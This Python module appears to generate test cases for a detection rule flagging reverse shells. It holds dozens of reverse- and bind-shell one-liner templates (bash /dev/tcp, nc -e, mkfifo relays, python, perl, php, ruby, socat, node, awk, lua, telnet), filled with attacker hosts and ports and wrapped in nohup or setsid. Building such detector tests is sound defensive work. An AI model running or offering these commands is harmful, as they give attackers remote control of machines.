"""Family: reverse and bind shells, from the usual cheat sheets (GTFOBins, the
reverse-shell generators) and their common wrappers (nohup, setsid, a subshell in the
background, bash -c, a hostname instead of an IP, unusual ports).

Techniques: busybox nc, ruby, awk, lua, telnet piped into a shell, mkfifo/mknod
relays, bash /dev/tcp and /dev/udp, python sockets, plus perl, php, socat, nc/ncat -e,
node and openssl relays, and bind shells. The right rule is CMD-TRACE-003.

The shells are data: per technique, command templates whose ⟨SLOTS⟩ `fill` replaces:
HOST (an IP, an attacker domain or a known-bad host), PORT, PORT2 (the next port),
FIFO (a named pipe's path), FD (a file descriptor) and BIN (the interpreter's name).
"""

import re

from . import expect as E

SHELLS = {
    'busybox_nc': [
        'busybox nc ⟨HOST⟩ ⟨PORT⟩ -e /bin/sh',
        'busybox nc ⟨HOST⟩ ⟨PORT⟩ -e sh',
        'busybox nc -lp ⟨PORT⟩ -e /bin/sh',
        '/bin/busybox nc ⟨HOST⟩ ⟨PORT⟩ -e /bin/bash',
    ],
    'ruby_tcpsocket': [
        'ruby -rsocket -e \'f=TCPSocket.open("⟨HOST⟩",⟨PORT⟩).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
        'ruby -rsocket -e \'exit if fork;c=TCPSocket.new("⟨HOST⟩","⟨PORT⟩");loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,"r"){|io|c.print io.read}}\'',
        'ruby -rsocket -e \'s=TCPSocket.new("⟨HOST⟩",⟨PORT⟩);while(cmd=s.gets);IO.popen(cmd,"r"){|io|s.print io.read};end\'',
    ],
    'awk_inet': [
        '⟨BIN⟩ \'BEGIN {s = "/inet/tcp/0/⟨HOST⟩/⟨PORT⟩"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
        '⟨BIN⟩ \'BEGIN{s="/inet/tcp/0/⟨HOST⟩/⟨PORT⟩";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}\'',
    ],
    'lua_socket': [
        '⟨BIN⟩ -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'⟨HOST⟩\',\'⟨PORT⟩\');os.execute(\'/bin/sh -i <&3 >&3 2>&3\');"',
        '⟨BIN⟩ -e "local host, port = \'⟨HOST⟩\', ⟨PORT⟩ local socket = require(\'socket\') local tcp = socket.tcp() local io = require(\'io\') tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, \'r\') local s = f:read(\'*a\') f:close() tcp:send(s) if status == \'closed\' then break end end tcp:close()"',
    ],
    'telnet_pipe_sh': [
        'telnet ⟨HOST⟩ ⟨PORT⟩ | /bin/sh | telnet ⟨HOST⟩ ⟨PORT2⟩',
        'rm -f ⟨FIFO⟩; mknod ⟨FIFO⟩ p && telnet ⟨HOST⟩ ⟨PORT⟩ 0<⟨FIFO⟩ | /bin/bash 1>⟨FIFO⟩',
        'telnet ⟨HOST⟩ ⟨PORT⟩ | bash | telnet ⟨HOST⟩ ⟨PORT2⟩',
        'mkfifo ⟨FIFO⟩ && telnet ⟨HOST⟩ ⟨PORT⟩ 0<⟨FIFO⟩ | sh 1>⟨FIFO⟩',
    ],
    'mkfifo_mknod_relay': [
        'rm ⟨FIFO⟩;mkfifo ⟨FIFO⟩;cat ⟨FIFO⟩|/bin/sh -i 2>&1|nc ⟨HOST⟩ ⟨PORT⟩ >⟨FIFO⟩',
        'rm -f ⟨FIFO⟩; mknod ⟨FIFO⟩ p; /bin/sh 0<⟨FIFO⟩ | nc ⟨HOST⟩ ⟨PORT⟩ 1>⟨FIFO⟩',
        'mkfifo ⟨FIFO⟩; nc ⟨HOST⟩ ⟨PORT⟩ < ⟨FIFO⟩ | /bin/bash > ⟨FIFO⟩ 2>&1; rm ⟨FIFO⟩',
        'mkfifo ⟨FIFO⟩; /bin/sh -i < ⟨FIFO⟩ 2>&1 | openssl s_client -quiet -connect ⟨HOST⟩:⟨PORT⟩ > ⟨FIFO⟩; rm ⟨FIFO⟩',
        'rm -f ⟨FIFO⟩;mkfifo ⟨FIFO⟩;cat ⟨FIFO⟩|sh -i 2>&1|ncat --ssl ⟨HOST⟩ ⟨PORT⟩ >⟨FIFO⟩',
    ],
    'bash_dev_tcp': [
        'bash -i >& /dev/tcp/⟨HOST⟩/⟨PORT⟩ 0>&1',
        '0<&⟨FD⟩;exec ⟨FD⟩<>/dev/tcp/⟨HOST⟩/⟨PORT⟩; sh <&⟨FD⟩ >&⟨FD⟩ 2>&⟨FD⟩',
        'exec ⟨FD⟩<>/dev/tcp/⟨HOST⟩/⟨PORT⟩;cat <&⟨FD⟩ | while read line; do $line 2>&⟨FD⟩ >&⟨FD⟩; done',
        'sh -i >& /dev/udp/⟨HOST⟩/⟨PORT⟩ 0>&1',
        '/bin/bash -l > /dev/tcp/⟨HOST⟩/⟨PORT⟩ 0<&1 2>&1',
        "bash -c 'exec bash -i &>/dev/tcp/⟨HOST⟩/⟨PORT⟩ <&1'",
        "zsh -c 'zmodload zsh/net/tcp && ztcp ⟨HOST⟩ ⟨PORT⟩ && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ],
    'python_socket': [
        '⟨BIN⟩ -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("⟨HOST⟩",⟨PORT⟩));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("sh")\'',
        '⟨BIN⟩ -c \'import os,pty,socket;s=socket.socket();s.connect(("⟨HOST⟩",⟨PORT⟩));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/bash")\'',
        'export RHOST="⟨HOST⟩";export RPORT=⟨PORT⟩;⟨BIN⟩ -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")\'',
        '⟨BIN⟩ -c "import socket,subprocess;s=socket.create_connection((\'⟨HOST⟩\',⟨PORT⟩));subprocess.Popen([\'/bin/sh\',\'-i\'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"',
    ],
    'perl_socket': [
        'perl -e \'use Socket;$i="⟨HOST⟩";$p=⟨PORT⟩;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("sh -i");};\'',
        'perl -MIO -e \'$p=fork;exit,if($p);foreach my $key(keys %ENV){if($ENV{$key}=~/(.*)/){$ENV{$key}=$1;}}$c=new IO::Socket::INET(PeerAddr,"⟨HOST⟩:⟨PORT⟩");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){if($_=~ /(.*)/){system $1;}};\'',
    ],
    'php_fsockopen': [
        'php -r \'$sock=fsockopen("⟨HOST⟩",⟨PORT⟩);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'php -r \'$sock=fsockopen("⟨HOST⟩",⟨PORT⟩);shell_exec("sh <&3 >&3 2>&3");\'',
        'php -r \'$s=fsockopen("⟨HOST⟩",⟨PORT⟩);$proc=proc_open("sh", array(0=>$s, 1=>$s, 2=>$s),$pipes);\'',
        'php -r \'$sock=fsockopen("⟨HOST⟩",⟨PORT⟩);popen("/bin/sh -i <&3 >&3 2>&3", "r");\'',
    ],
    'socat': [
        "socat TCP:⟨HOST⟩:⟨PORT⟩ EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
        'socat tcp-connect:⟨HOST⟩:⟨PORT⟩ exec:/bin/sh',
        "socat exec:'sh -li',pty,stderr,setsid,sigint,sane tcp:⟨HOST⟩:⟨PORT⟩",
        'socat TCP-LISTEN:⟨PORT⟩,reuseaddr,fork EXEC:/bin/bash',
        'socat OPENSSL:⟨HOST⟩:⟨PORT⟩,verify=0 EXEC:/bin/sh',
    ],
    'nc_ncat_exec': [
        'nc -e /bin/sh ⟨HOST⟩ ⟨PORT⟩',
        'nc ⟨HOST⟩ ⟨PORT⟩ -e /bin/bash',
        'ncat ⟨HOST⟩ ⟨PORT⟩ -e /bin/bash',
        'nc -c bash ⟨HOST⟩ ⟨PORT⟩',
        'ncat --udp ⟨HOST⟩ ⟨PORT⟩ -e /bin/sh',
        'nc.traditional -e /bin/sh ⟨HOST⟩ ⟨PORT⟩',
        'ncat -lvnp ⟨PORT⟩ -e /bin/bash',
        'nc -lvp ⟨PORT⟩ -e /bin/sh',
    ],
    'node_net': [
        'node -e "sh = require(\'child_process\').spawn(\'/bin/sh\');require(\'net\').connect(⟨PORT⟩, \'⟨HOST⟩\', function () { this.pipe(sh.stdin); sh.stdout.pipe(this); sh.stderr.pipe(this); })"',
        'node -e "require(\'child_process\').exec(\'nc -e /bin/sh ⟨HOST⟩ ⟨PORT⟩\')"',
        'node -e "(function(){var net=require(\'net\'),cp=require(\'child_process\'),sh=cp.spawn(\'/bin/sh\',[]);var client=new net.Socket();client.connect(⟨PORT⟩,\'⟨HOST⟩\',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();"',
    ],
}

BINS = {"awk_inet": ["awk", "gawk"], "lua_socket": ["lua", "lua5.1", "lua5.4", "luajit"], "python_socket": ["python3", "python", "python2", "/usr/bin/python3"]}
FDS = [196, 5, 3, 200, 7]
SLOT = re.compile("⟨([A-Z0-9]+)⟩")


def _addr(w):
    if w.chance(0.75):
        return w.public_ip(), w.port()
    return w.choice([w.attacker_domain(), w.known_bad()]), w.port()


def fill(w, technique, template):
    host, port = _addr(w)
    values = {"HOST": host, "PORT": str(port), "PORT2": str(port + 1), "FD": str(w.choice(FDS)),
              "FIFO": w.choice(["/tmp/f", "/tmp/p", "/tmp/.s", "/tmp/.x", f"/tmp/{w.label()}", "/var/tmp/.p", "/dev/shm/q"]),
              "BIN": w.choice(BINS.get(technique, [""]))}
    return SLOT.sub(lambda m: values[m.group(1)], template)


def _wrap(w, cmd, quote_ok=True):
    form = w.randint(0, 6)
    compound = any(c in cmd for c in ";|&")
    if form == 0 or not quote_ok or (compound and form != 2):
        return cmd
    if form == 1:
        return f"nohup {cmd} >/dev/null 2>&1 &"
    if form == 2:
        return f"({cmd} &)"
    if form == 3 and "'" not in cmd:
        return f"bash -c '{cmd}'"
    if form == 4:
        return f"setsid {cmd} &"
    return cmd


def _make(technique):
    def make(w, i):
        cmd = fill(w, technique, w.choice(SHELLS[technique]))
        cmd = _wrap(w, cmd, quote_ok=technique != "awk_inet")
        return {"steps": [cmd], "expect": E.REVSHELL, "variant": cmd.split()[0]}
    return make


TECHNIQUES = [(name, _make(name)) for name in SHELLS]
FAMILY = "reverse_shells"
PER_TECHNIQUE = 3
